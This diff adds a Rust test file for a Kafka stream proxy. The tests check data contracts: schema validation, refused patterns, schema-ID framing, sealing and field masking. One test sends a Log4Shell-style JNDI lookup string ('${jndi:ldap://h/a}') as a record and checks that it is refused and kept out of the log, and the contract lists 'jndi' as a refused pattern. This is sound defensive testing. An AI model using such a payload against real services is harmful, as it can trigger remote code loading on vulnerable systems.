@@ -1,0 +1,139 @@
+//! Streams with a contract: what may be written, who may read, and what the log says.
+
+use serde_json::{Value as Json, json};
+use streamward_records::Envelope;
+use streamward_wire::kafka::Value;
+
+use super::fetch::deliver;
+use super::sealing::{data_key, fetch, produce, records, sealing, values, written};
+use super::{Close, by, codes, document};
+
+const GOOD: &[u8] = br#"{"card":"4111222233334444"}"#;
+const BAD: &[u8] = br#"{"card":1}"#;
+
+/// `ok.a` holds JSON; its card is masked for all but `alice`.
+fn contract(document: &mut Json, change: impl FnOnce(&mut Json)) {
+    document["contracts"] = json!({"streams": [{"name": "ok.a", "unmasked": null, "write": {
+        "format": "json", "references": [], "message": null, "admit_undeclared": false, "schema_ids": [],
+        "text": r#"{"type":"object","properties":{"card":{"type":"string"}},"required":["card"]}"#,
+        "refused_patterns": ["jndi"]}}]});
+    change(&mut document["contracts"]["streams"][0]);
+}
+
+fn held(change: impl FnOnce(&mut Json)) -> Json {
+    let mut document = document();
+    contract(&mut document, change);
+    document
+}
+
+#[test]
+fn what_is_as_the_contract_says_leaves_as_it_came() {
+    for version in [3, 9, 12, 13] {
+        let mut script = by("alice", &held(|_| {}));
+        let batch = records(0, &[GOOD, GOOD]);
+        script
+            .request(&produce(version, -1, std::slice::from_ref(&batch)))
+            .rewrites(|request| assert_eq!(written(request), [batch.clone()]));
+        assert!(script.log("denied").is_empty());
+    }
+}
+
+#[test]
+fn a_batch_with_a_bad_record_is_refused_alone_with_its_index_and_entered() {
+    let injected: &[u8] = br#"{"card":"\u0024{jndi:ldap://h/a}"}"#;
+    let parts = [
+        records(0, &[GOOD]),
+        records(0, &[GOOD, BAD, GOOD]),
+        records(0, &[b"no JSON"]),
+        records(0, &[injected]),
+    ];
+    let mut script = by("alice", &held(|_| {}));
+    script
+        .request(&produce(9, -1, &parts))
+        .rewrites(|request| assert_eq!(written(request), [parts[0].clone()]));
+    script
+        .broker(|answer| {
+            let mut entry = answer.element("Responses");
+            entry.set("Name", "ok.a");
+            let mut partition = entry.element("PartitionResponses");
+            partition.set("Index", 0).set("BaseOffset", 7);
+            entry.set("PartitionResponses", vec![partition]);
+            answer.set("Responses", vec![entry]);
+        })
+        .answers(|answer| {
+            assert_eq!(codes(answer), ["ok.a/1:87", "ok.a/2:87", "ok.a/3:87"]);
+            let topic = answer
+                .array("Responses")
+                .iter()
+                .filter_map(Value::as_struct)
+                .find(|it| it.array("PartitionResponses").len() == 3)
+                .unwrap();
+            let refused = topic.array("PartitionResponses")[0].as_struct().unwrap();
+            let record = refused.array("RecordErrors")[0].as_struct().unwrap();
+            assert_eq!(record.int("BatchIndex"), 1);
+        });
+    assert_eq!(script.ranges(), ["0 7-7 1"]);
+    let denied = script.log("denied");
+    assert!(denied.iter().all(|it| it["rules"][0] == "contract:invalid"));
+    assert_eq!(
+        denied[0]["reason"],
+        "partition 1, record 1 of a batch: it has another type than declared in `card` at byte 8"
+    );
+    assert!(!denied.iter().any(|it| it.to_string().contains("ldap")));
+}
+
+#[test]
+fn a_damaged_batch_is_corruption_and_without_acknowledgement_the_connection_ends() {
+    let mut damaged = records(0, &[GOOD]);
+    *damaged.last_mut().unwrap() ^= 1;
+    let mut script = by("alice", &held(|_| {}));
+    script
+        .request(&produce(9, -1, &[damaged]))
+        .refuses(&["ok.a/0:2"]);
+    let close = script
+        .request(&produce(9, 0, &[records(0, &[BAD])]))
+        .closes();
+    assert!(matches!(close, Close::DeniedSilently), "{close:?}");
+}
+
+#[test]
+fn ids_in_front_of_values_are_held_to_those_of_the_stream() {
+    let document = held(|it| it["write"]["schema_ids"] = json!([7]));
+    let framed = [b"\0\0\0\0\x07", GOOD].concat();
+    let foreign = [b"\0\0\0\0\x08", GOOD].concat();
+    let parts = [
+        records(0, &[&framed]),
+        records(0, &[&foreign]),
+        records(0, &[GOOD]),
+    ];
+    by("alice", &document)
+        .request(&produce(9, -1, &parts))
+        .rewrites(|request| assert_eq!(written(request), [parts[0].clone()]));
+}
+
+#[test]
+fn a_sealed_stream_is_validated_before_it_is_sealed() {
+    let mut document = sealing(|_| {});
+    contract(&mut document, |_| {});
+    let mut script = by("alice", &document);
+    script.request(&produce(9, -1, &[records(0, &[GOOD]), records(0, &[BAD])]));
+    script.keys(Some(&data_key(1))).rewrites(|request| {
+        let left = written(request);
+        assert_eq!(left.len(), 1);
+        assert!(Envelope::parse(&values(&left[0])[0]).is_ok());
+    });
+}
+
+#[test]
+fn who_would_see_masks_sees_nothing_yet() {
+    let document = held(|it| it["unmasked"] = json!({"roles": [], "principals": ["alice"]}));
+    let mut script = by("alice", &document);
+    let batch = records(0, &[GOOD]);
+    script.request(&fetch(11)).forwards();
+    script
+        .broker(|answer| deliver(answer, "ok.a", std::slice::from_ref(&batch)))
+        .passes();
+    let mut script = by("root", &document);
+    script.request(&fetch(11)).refuses(&["ok.a/0:29"]);
+    assert_eq!(script.log("denied")[0]["rules"][0], "contract:masked");
+}
